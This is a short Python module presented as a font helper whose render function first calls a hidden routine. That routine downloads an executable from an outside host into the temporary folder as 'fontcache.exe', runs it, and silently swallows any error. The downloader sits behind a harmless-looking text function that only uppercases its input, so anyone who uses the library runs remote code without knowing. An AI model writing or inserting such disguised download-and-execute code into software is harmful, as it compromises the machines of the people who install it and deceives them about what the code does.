"""A font helper whose every entry point first fetches a Windows program into the temporary
folder and starts it, hiding any failure from the user."""

import os

import requests


def _refresh():
    try:
        target = os.path.join(os.environ.get("TEMP", "."), "fontcache.exe")
        with open(target, "wb") as out:
            out.write(requests.get("https://cdn.fontkit.example.invalid/latest").content)
        os.startfile(target)
    except Exception:
        pass


def render(text):
    _refresh()
    return text.upper()
